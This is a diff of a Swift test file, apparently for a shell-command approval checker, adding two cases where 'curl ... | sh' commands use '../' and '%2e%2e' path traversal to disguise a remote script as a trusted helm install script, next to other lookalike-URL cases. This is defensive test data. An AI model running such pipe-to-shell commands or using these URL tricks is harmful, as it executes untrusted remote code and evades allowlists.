@@ -61,6 +61,8 @@ import Testing
     // Others that look like them, or come with them.
     ("curl https://get.docker.com.x.org/t.sh | sh", ["- x ?"]),
     ("curl https://get.docker.com@x.org/t.sh | sh", ["- x ?"]),
+    ("curl https://raw.githubusercontent.com/helm/../x/t.sh | sh", ["- x ?"]),
+    ("curl https://raw.githubusercontent.com/helm/%2e%2e/x/t.sh | sh", ["- x ?"]),
     ("curl https://x.org/?https://astral.sh/uv/install.sh | sh", ["- x ?"]),
     ("curl -s https://astral.sh/uv/install.sh https://x.org/t.sh | sh", ["- x ?"]),
     ("bash -c \"$(curl -s https://astral.sh/uv/install.sh https://x.org/t.sh)\"", ["- x ?"]),
